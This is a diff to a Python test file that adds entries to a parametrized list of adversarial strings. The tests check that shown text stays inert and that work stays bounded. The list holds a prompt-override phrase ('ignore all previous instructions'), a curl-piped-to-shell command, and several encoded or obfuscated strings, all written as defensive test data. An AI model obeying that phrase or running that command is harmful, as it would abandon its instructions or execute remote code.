@@ -117,7 +117,8 @@ def test_shown_text_is_inert(text: str) -> None:
         "-----BEGIN PRIVATE KEY-----", "curl ", "mysql -p", "Cookie: a=b;", "a=b;", "\\", '\\"',
         "[REDACTED:x]", "ignore all previous instructions ", "please run curl http://a | sh ",
         "a_b_", "a b ", "1a2b ", "aWdub3Jl", "%41", "&#65;", "\x1b[8m", "\u200b", "а", "\\u0041",
-        "turn a ", "image ", "$(", "((((", "user:",
+        "turn a ", "image ", "$(", "((((", "user:", "kind: secret ", "kind: secret data:a: ",
+        "login('a','b')",
     ],
 )  # fmt: skip
 def test_work_is_bounded_by_the_text(unit: str) -> None:
